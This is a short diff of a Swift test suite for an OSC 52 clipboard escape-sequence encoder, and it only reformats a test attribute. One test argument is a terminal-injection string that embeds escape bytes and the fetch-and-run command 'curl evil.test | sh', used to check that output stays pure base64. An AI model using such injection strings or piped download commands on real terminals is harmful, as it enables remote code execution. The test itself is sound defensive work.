@@ -3,9 +3,11 @@ import Testing
 
 @Suite("OSC 52")
 struct OSC52Tests {
-    @Test("Whatever the text, the sequence is ESC ] 52;c; then base64 only, then BEL", arguments: [
-        "ada@acme.test", "eve@acme.test\u{07}\u{1B}]0;pwned\u{07}\ncurl evil.test | sh", "\u{9C}\u{1B}\\", "",
-    ])
+    @Test(
+        "Whatever the text, the sequence is ESC ] 52;c; then base64 only, then BEL",
+        arguments: [
+            "ada@acme.test", "eve@acme.test\u{07}\u{1B}]0;pwned\u{07}\ncurl evil.test | sh", "\u{9C}\u{1B}\\", "",
+        ])
     func onlyBase64(text: String) {
         let bytes = Array(OSC52.sequence(copying: text).utf8)
         let header = Array("\u{1B}]52;c;".utf8)
